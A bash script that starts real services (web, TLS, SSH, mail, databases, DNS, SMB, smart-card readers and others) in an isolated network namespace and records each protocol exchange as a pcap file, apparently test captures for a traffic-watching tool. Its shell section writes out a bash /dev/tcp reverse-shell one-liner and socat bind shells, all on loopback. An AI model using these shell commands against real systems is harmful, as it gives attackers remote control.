#!/bin/bash
# Captures conversations of real services on port 33516, each in a file of its own, in a network
# namespace that nothing else is in. As root, on Debian 12; README.md names the packages.
# It uses another port meanwhile, so that it can run beside a portwatch that watches 3516.
# usage: capture.sh DIRECTORY [NAME…]
set -u
here=$(dirname "$(realpath "$0")")
port=33516
out=$(realpath "$1"); shift
work=$(mktemp -d /tmp/capture.XXXXXX); chmod 755 "$work"; cd "$work"
ns=capture-$$
ip netns add $ns
on() { ip netns exec $ns "$@"; }
on ip link set lo mtu 1500 up
on ethtool -K lo tso off gso off gro off tx-udp-segmentation off >/dev/null 2>&1
pids=()
cleanup() { for p in "${pids[@]}"; do kill $p 2>/dev/null; done; sleep 0.3; ip netns pids $ns | xargs -r kill -9 2>/dev/null; ip netns del $ns; rm -rf "$work"; }
trap cleanup EXIT
start() { (exec ip netns exec $ns "$@") >>"$work/log" 2>&1 & pids+=($!); }
up() { for i in $(seq 50); do on ss -Hlntu "sport = :33516" | grep -q . && return; sleep 0.1; done; echo "$1: nobody listens"; tail -3 "$work/log"; }
record() { # NAME, then commands on stdin
  (exec ip netns exec $ns tcpdump -q -i lo -s 0 -U --immediate-mode -Z root -w "$out/$1.pcap" port 33516 2>/dev/null) & local t=$!
  sleep 0.4; . /dev/stdin >>"$work/log" 2>&1; sleep 0.5; kill -INT $t; wait $t 2>/dev/null
  python3 "$here/reported.py" "$out/$1.pcap"
}
stop() { for p in "${pids[@]}"; do kill $p 2>/dev/null; done; sleep 0.3; for p in "${pids[@]}"; do kill -9 $p 2>/dev/null; done; wait "${pids[@]}" 2>/dev/null; pids=(); for i in $(seq 30); do on ss -Hlntu "sport = :33516" | grep -q . || return; sleep 0.1; done; ip netns pids $ns | xargs -r kill -9; sleep 0.2; }

http() {
  mkdir -p www; echo hello > www/index.html
  openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem -subj /CN=cards.example -days 30 2>/dev/null
  cat > nginx.conf <<E
daemon off; master_process off; pid $work/nginx.pid; error_log $work/nginx.log;
events {}
http { access_log off; server { listen 33516 $1; ssl_certificate $work/cert.pem; ssl_certificate_key $work/key.pem; root $work/www;
  client_body_temp_path $work; proxy_temp_path $work; fastcgi_temp_path $work; uwsgi_temp_path $work; scgi_temp_path $work; } }
E
  start nginx -c $work/nginx.conf; up nginx
}
do_http() { http ""
  record http <<'E'
on curl -s http://127.0.0.1:33516/
on curl -s -H 'Cookie: session=C00kieSecret' -u eve:BasicSecret 'http://127.0.0.1:33516/index.html?token=QuerySecret'
on curl -s -d 'password=BodySecret' http://127.0.0.1:33516/none
on curl -s -I http://127.0.0.1:33516/
E
  stop; }
do_http2() { http "http2"
  record http2 <<'E'
on curl -s --http2-prior-knowledge http://127.0.0.1:33516/
E
  stop; }
do_tls() { http "ssl http2"
  record tls <<'E'
on curl -sk --resolve cards.example:33516:127.0.0.1 https://cards.example:33516/
on curl -sk --tls-max 1.2 https://127.0.0.1:33516/
on openssl s_client -connect 127.0.0.1:33516 -servername bank.example -alpn h2,http/1.1 </dev/null
on openssl s_client -connect 127.0.0.1:33516 -tls1_2 -servername old.example </dev/null
on openssl s_client -connect 127.0.0.1:33516 -cipher NULL -tls1_2 </dev/null
E
  stop
  start openssl s_server -accept 33516 -cert cert.pem -key key.pem -tls1_3 -quiet; up s_server
  record tls-openssl <<'E'
on openssl s_client -connect 127.0.0.1:33516 -servername card.example </dev/null
on openssl s_client -connect 127.0.0.1:33516 -tls1_2 </dev/null
on python3 -c "
import socket,ssl
c=ssl.create_default_context(); c.check_hostname=False; c.verify_mode=ssl.CERT_NONE; c.set_alpn_protocols(['http/1.1'])
c.wrap_socket(socket.create_connection(('127.0.0.1',33516)),server_hostname='python.example').close()"
E
  stop; }
do_websocket() {
  cat > ws.py <<'E'
import socket,base64,hashlib,sys
s=socket.socket(); s.setsockopt(1,2,1); s.bind(('127.0.0.1',33516)); s.listen(1)
while True:
    c,_=s.accept(); d=b''
    while b'\r\n\r\n' not in d: d+=c.recv(4096)
    k=[l for l in d.split(b'\r\n') if l.lower().startswith(b'sec-websocket-key')][0].split(b': ')[1]
    a=base64.b64encode(hashlib.sha1(k+b'258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest())
    c.sendall(b'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: '+a+b'\r\n\r\n\x81\x05hello'); c.close()
E
  start python3 ws.py; up ws
  record websocket <<'E'
on curl -s -m 1 --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' http://127.0.0.1:33516/
E
  stop; }
do_ssh() {
  ssh-keygen -q -t ed25519 -N '' -f hostkey; mkdir -p /run/sshd
  start /usr/sbin/sshd -D -e -p 33516 -f /dev/null -h $work/hostkey -o PidFile=none -o UsePAM=no; up sshd
  record ssh <<'E'
on ssh -p 33516 -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null nobody@127.0.0.1 true
on ssh-keyscan -p 33516 127.0.0.1
E
  stop; }
do_smtp() {
  mkdir -p pf/spool; cp -r /etc/postfix pf/etc 2>/dev/null || mkdir -p pf/etc
  cat > smtp.py <<'E'
import socket,ssl
s=socket.socket(); s.setsockopt(1,2,1); s.bind(('127.0.0.1',33516)); s.listen(1)
E
  postfix_main; up postfix
  record smtp <<'E'
on curl -s -m 5 --url smtp://127.0.0.1:33516 --mail-from eve@cards.example --mail-rcpt root@cards.example -T /etc/hostname
on openssl s_client -connect 127.0.0.1:33516 -starttls smtp -servername mail.example </dev/null
E
  stop; on postfix -c $work/pf/etc stop; }
postfix_main() {
  cp /usr/share/postfix/master.cf.dist pf/etc/master.cf 2>/dev/null
  sed -i 's/^smtp *inet.*/127.0.0.1:33516 inet n - n - - smtpd/; s/^\(pickup\|cleanup\|qmgr\|tlsmgr\|rewrite\|bounce\|defer\|trace\|verify\|flush\|proxymap\|proxywrite\|smtp\|relay\|showq\|error\|retry\|discard\|local\|virtual\|lmtp\|anvil\|scache\|postlog\)\( \+\(unix\|unix-dgram\) \+[^ ]\+ \+[^ ]\+ \+\)y/\1\2n/' pf/etc/master.cf
  openssl req -x509 -newkey rsa:2048 -nodes -keyout pf/key.pem -out pf/cert.pem -subj /CN=mail.example -days 30 2>/dev/null
  cat > pf/etc/main.cf <<E
compatibility_level = 3.6
queue_directory = $work/pf/spool
data_directory = $work/pf/data
myhostname = mail.cards.example
mydestination = cards.example
inet_interfaces = loopback-only
inet_protocols = ipv4
smtpd_tls_cert_file = $work/pf/cert.pem
smtpd_tls_key_file = $work/pf/key.pem
smtpd_tls_security_level = may
smtpd_relay_restrictions = permit_mynetworks, reject
mail_owner = postfix
setgid_group = postdrop
maillog_file = /var/log/postfix-capture.log
alias_maps =
E
  mkdir -p pf/data; chown postfix pf/data
  on postfix -c $work/pf/etc start >>log 2>&1
}
do_ftp() {
  mkdir -p ftp/empty; cat > vsftpd.conf <<E
listen=YES
listen_port=33516
listen_address=127.0.0.1
anonymous_enable=YES
local_enable=YES
background=NO
secure_chroot_dir=$work/ftp/empty
anon_root=$work/ftp
seccomp_sandbox=NO
E
  chown root:root vsftpd.conf; chmod 755 ftp
  start vsftpd $work/vsftpd.conf; up vsftpd
  record ftp <<'E'
on curl -s -m 5 ftp://127.0.0.1:33516/
on curl -s -m 5 ftp://eve:FtpSecret@127.0.0.1:33516/
E
  stop; }
do_vnc() {
  start Xtigervnc :77 -rfbport 33516 -SecurityTypes None -localhost -geometry 320x240; up vnc
  cat > vnc.py <<'E'
import socket
s=socket.create_connection(('127.0.0.1',33516)); s.settimeout(3)
s.recv(12); s.sendall(b'RFB 003.008\n'); n=s.recv(16); s.sendall(b'\x01'); s.recv(4); s.sendall(b'\x01'); s.recv(200); s.close()
E
  record vnc <<'E'
on python3 vnc.py
E
  stop; }
do_smb() {
  mkdir -p smb/share smb/p; cat > smb.conf <<E
[global]
smb ports = 33516
private dir = $work/smb/p
lock directory = $work/smb
state directory = $work/smb
cache directory = $work/smb
pid directory = $work/smb
ncalrpc dir = $work/smb
map to guest = Bad User
log file = $work/smb/log
server role = standalone server
bind interfaces only = yes
interfaces = lo
[share]
path = $work/smb/share
guest ok = yes
E
  start smbd -F -s $work/smb.conf --no-process-group; up smbd
  record smb <<'E'
on smbclient -N -p 33516 -L 127.0.0.1 -s smb.conf
E
  stop; }
do_mysql() {
  mkdir my; chown mysql my; mariadb-install-db --no-defaults --datadir=$work/my --user=mysql --auth-root-authentication-method=normal >>log 2>&1
  start mariadbd --no-defaults --datadir=$work/my --user=mysql --port=33516 --bind-address=127.0.0.1 --socket=$work/my/s --pid-file=$work/my/p --innodb-buffer-pool-size=8M; up mariadbd
  record mysql <<'E'
on mariadb --no-defaults -h 127.0.0.1 -P 33516 -u root -e 'select 1'
on mariadb --no-defaults -h 127.0.0.1 -P 33516 -u eve -pMySecret -e 'select 1'
E
  stop; }
do_postgresql() {
  local bin=/usr/lib/postgresql/15/bin; mkdir pg; chown postgres pg
  su postgres -c "$bin/initdb -D $work/pg/d -A trust" >>log 2>&1
  openssl req -x509 -newkey rsa:2048 -nodes -keyout pg/key.pem -out pg/cert.pem -subj /CN=db.example -days 30 2>/dev/null; chown postgres pg/*.pem; chmod 600 pg/key.pem
  start su postgres -c "exec $bin/postgres -D $work/pg/d -p 33516 -k $work/pg -h 127.0.0.1 -c ssl=on -c ssl_cert_file=$work/pg/cert.pem -c ssl_key_file=$work/pg/key.pem"; up postgres
  record postgresql <<'E'
on psql "host=127.0.0.1 port=33516 user=postgres sslmode=disable" -c 'select 1'
on psql "host=127.0.0.1 port=33516 user=postgres sslmode=require" -c 'select 1'
on psql "host=127.0.0.1 port=33516 user=nobody dbname=none sslmode=prefer" -c 'select 1'
E
  stop; }
do_redis() {
  start redis-server --port 33516 --bind 127.0.0.1 --save '' --dir $work --requirepass RedisSecret; up redis
  record redis <<'E'
on redis-cli -p 33516 ping
on redis-cli -p 33516 -a RedisSecret set key value
E
  stop; }
do_mqtt() {
  printf 'listener 33516 127.0.0.1\nallow_anonymous true\n' > mosq.conf
  start mosquitto -c $work/mosq.conf; up mosquitto
  record mqtt <<'E'
on mosquitto_pub -h 127.0.0.1 -p 33516 -t cards -m hello -u eve -P MqttSecret
on mosquitto_pub -V 5 -h 127.0.0.1 -p 33516 -t cards -m hello
E
  stop; }
do_dns() {
  start dnsmasq -k -p 33516 -C /dev/null --listen-address=127.0.0.1 --bind-interfaces --no-resolv --no-hosts --address=/cards.example/10.1.2.3 --pid-file= --user=root; up dnsmasq
  record dns <<'E'
on dig +short -p 33516 @127.0.0.1 cards.example A
on dig +short -p 33516 @127.0.0.1 mail.cards.example AAAA +noedns
on dig +short +tcp -p 33516 @127.0.0.1 tcp.cards.example A
E
  stop; }
do_snmp() {
  printf 'agentaddress udp:127.0.0.1:33516\nrocommunity SnmpSecret\n' > snmpd.conf
  start snmpd -f -Lo -C -c $work/snmpd.conf -p $work/snmpd.pid; up snmpd
  record snmp <<'E'
on snmpget -v2c -c SnmpSecret 127.0.0.1:33516 1.3.6.1.2.1.1.1.0
on snmpget -v1 -c SnmpSecret 127.0.0.1:33516 1.3.6.1.2.1.1.3.0
on snmpget -v3 -u nobody -l noAuthNoPriv -t 1 -r 0 127.0.0.1:33516 1.3.6.1.2.1.1.3.0
E
  stop; }
do_tftp() {
  mkdir tftp; echo image > tftp/boot.img; chmod 755 tftp; chown -R nobody tftp
  start atftpd --daemon --no-fork --port 33516 --bind-address 127.0.0.1 --user nobody.nogroup $work/tftp; up atftpd
  record tftp <<'E'
printf 'get boot.img\nquit\n' | on tftp -m octet 127.0.0.1 33516
on curl -s -m 3 tftp://127.0.0.1:33516/boot.img
E
  stop; }
do_syslog() {
  cat > rsyslog.conf <<E
global(workDirectory="$work")
module(load="imudp") module(load="imtcp")
input(type="imudp" port="33516" address="127.0.0.1") input(type="imtcp" port="33516" address="127.0.0.1")
*.* action(type="omfile" file="$work/messages")
E
  start rsyslogd -n -f $work/rsyslog.conf -i $work/rsyslog.pid; up rsyslogd
  record syslog <<'E'
on logger -n 127.0.0.1 -P 33516 -d --rfc5424 'card inserted'
on logger -n 127.0.0.1 -P 33516 -d --rfc3164 'card removed'
on logger -n 127.0.0.1 -P 33516 -T --rfc5424 'over tcp'
on logger -n 127.0.0.1 -P 33516 -T --octet-count --rfc5424 'counted'
E
  stop; }
do_shell() {
  record shell-reverse <<'E'
(sleep 1; echo id; sleep 0.5; echo exit; sleep 0.3) | on timeout 4 nc -l 127.0.0.1 33516 & sleep 0.5
on timeout 3 env -i PATH=/usr/bin:/bin HOME=/ TERM=dumb bash --norc -c 'bash --norc -i >& /dev/tcp/127.0.0.1/33516 0>&1'
E
  start socat TCP-LISTEN:33516,bind=127.0.0.1,fork,reuseaddr EXEC:'bash --norc -i',pty,stderr,setsid,sigint,ctty; up socat
  record shell-pty <<'E'
(sleep 2; echo id; sleep 1; echo exit; sleep 1) | on nc -N 127.0.0.1 33516
E
  stop
  start socat TCP-LISTEN:33516,bind=127.0.0.1,fork,reuseaddr EXEC:'sh'; up socat
  record shell-plain <<'E'
(sleep 0.3; echo id; sleep 0.3; echo exit) | on nc -N 127.0.0.1 33516
E
  stop; }
do_socks() {

  ssh-keygen -q -t ed25519 -N '' -f sk; ssh-keygen -q -t ed25519 -N '' -f hk2; mkdir -p /run/sshd; cp sk.pub auth; chmod 600 auth
  start /usr/sbin/sshd -D -e -p 2222 -f /dev/null -h $work/hk2 -o PidFile=none -o UsePAM=no -o AuthorizedKeysFile=$work/auth -o StrictModes=no
  mkdir www2; echo hi > www2/index.html; start python3 -m http.server 8088 --bind 127.0.0.1 -d www2
  sleep 0.7
  start ssh -N -D 127.0.0.1:33516 -p 2222 -i $work/sk -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@127.0.0.1; up socks
  record socks <<'E'
on curl -s -m 3 --socks5 127.0.0.1:33516 http://127.0.0.1:8088/
on curl -s -m 3 --socks5-hostname 127.0.0.1:33516 http://localhost:8088/
on curl -s -m 3 --socks4 127.0.0.1:33516 http://127.0.0.1:8088/
E
  stop; }
do_vpcd() {
  mkdir rc; cat > rc/vpcd <<E
FRIENDLYNAME "Virtual PCD"
DEVICENAME   /dev/null:0x82EC
LIBPATH      /usr/lib/pcsc/drivers/serial/libifdvpcd.so
CHANNELID    0x82EC
E
  cat > card.py <<'E'
import socket,struct,sys,time
s=socket.create_connection(('127.0.0.1',33516)); s.settimeout(8)
def rx(n):
    b=b''
    while len(b)<n:
        c=s.recv(n-len(b))
        if not c: sys.exit()
        b+=c
    return b
def tx(d): s.sendall(struct.pack('>H',len(d))+d)
t=time.time()
while time.time()-t<7:
    n=struct.unpack('>H',rx(2))[0]; d=rx(n)
    if n==1 and d[0] in (0,1,2): continue
    if n==1 and d[0]==4: tx(bytes.fromhex('3B9F958131FE9F00664653051000317 1DF000000000002'.replace(' ',''))); continue
    tx(bytes.fromhex('9000') if d[1] in (0xA4,0x20) else bytes.fromhex('6D00'))
E
  start unshare -m sh -c "mkdir -p /run/pcscd; mount -t tmpfs none /run/pcscd; exec pcscd -f -c $work/rc"; up pcscd
  pcscd_pid=${pids[-1]}
  record vpcd <<'E'
on python3 card.py & sleep 1.5
on nsenter -t $pcscd_pid -m opensc-tool -a
on nsenter -t $pcscd_pid -m opensc-tool -s 00A4040005A000000308 -s 00200080083132333435363738
sleep 1
E
  stop; }
do_pcsc() {
  mkdir rc2; cat > rc2/vpcd <<E
FRIENDLYNAME "Virtual PCD"
DEVICENAME   /dev/null:0x8C7B
LIBPATH      /usr/lib/pcsc/drivers/serial/libifdvpcd.so
CHANNELID    0x8C7B
E
  start unshare -m sh -c "mkdir -p /run/pcscd; mount -t tmpfs none /run/pcscd; pcscd -f -c $work/rc2 & sleep 1; exec socat TCP-LISTEN:33516,bind=127.0.0.1,fork,reuseaddr UNIX-CONNECT:/run/pcscd/pcscd.comm"; up pcsc
  record pcsc-lite <<'E'
on unshare -m sh -c "mkdir -p /run/pcscd; mount -t tmpfs none /run/pcscd; socat UNIX-LISTEN:/run/pcscd/pcscd.comm,fork TCP:127.0.0.1:33516 & sleep 0.5; timeout 3 opensc-tool -l; kill %1"
E
  stop; }
do_iso7816() {
  cat > apdu.py <<'E'
import socket,struct,sys,threading
def serve(framed):
    s=socket.socket(); s.setsockopt(1,2,1); s.bind(('127.0.0.1',33516)); s.listen(1); c,_=s.accept()
    try:
        while True:
            d=c.recv(4096)
            if not d: break
            ins=d[3+0] if framed else d[1]
            a=bytes.fromhex({0xA4:'6F0A8408A0000003089000',0x20:'63C2'}.get(ins,'6A88'))
            c.sendall((struct.pack('>H',len(a)) if framed else b'')+a)
    finally: c.close(); s.close()
apdus=[bytes.fromhex(x) for x in ('00A4040005A000000308','0020008004'+b'P!N~'.hex(),'00CA006E00')]
for framed in (True,False):
    t=threading.Thread(target=serve,args=(framed,)); t.start()
    import time; time.sleep(0.2)
    c=socket.create_connection(('127.0.0.1',33516))
    for a in apdus:
        c.sendall((struct.pack('>H',len(a)) if framed else b'')+a); c.recv(300)
    c.close(); t.join()
E
  record iso7816 <<'E'
on python3 apdu.py
E
  stop; }
do_opaque() {
  cat > random.py <<'E'
import socket,threading,random
r=random.Random(7)
s=socket.socket(); s.setsockopt(1,2,1); s.bind(('127.0.0.1',33516)); s.listen(1)
def serve():
    c,_=s.accept(); c.recv(4096); c.sendall(r.randbytes(700)); c.close()
t=threading.Thread(target=serve); t.start()
c=socket.create_connection(('127.0.0.1',33516)); c.sendall(b'\xe9'+r.randbytes(400)); c.recv(4096); c.close(); t.join()
E
  record opaque <<'E'
on python3 random.py
E
  stop; }

all="http http2 tls websocket ssh smtp ftp vnc smb mysql postgresql redis mqtt dns snmp tftp syslog shell socks vpcd pcsc iso7816 opaque"
for name in ${@:-$all}; do do_$name; done
